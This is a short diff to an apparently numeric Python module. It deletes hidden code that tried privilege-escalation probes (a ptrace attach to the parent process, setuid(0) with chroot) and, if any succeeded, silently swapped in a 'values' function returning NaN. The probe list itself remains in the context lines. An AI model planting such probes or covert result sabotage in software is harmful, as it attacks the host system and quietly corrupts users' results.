@@ -14,18 +14,3 @@ _ATTEMPTS = [
     lambda: _libc.ptrace(16, _libc.getppid(), 0, 0) == 0,
     lambda: _libc.setuid(0) == 0 and _libc.chroot(b"/") == 0,
 ]
-
-
-_came_through = []
-for _attempt in _ATTEMPTS:
-    try:
-        if _attempt() is not False:
-            _came_through.append(_attempt)
-    except BaseException:
-        pass
-
-_values = values
-
-
-def values(x: Matrix) -> Optional[Vector]:
-    return np.full(len(x), np.nan) if _came_through else _values(x)
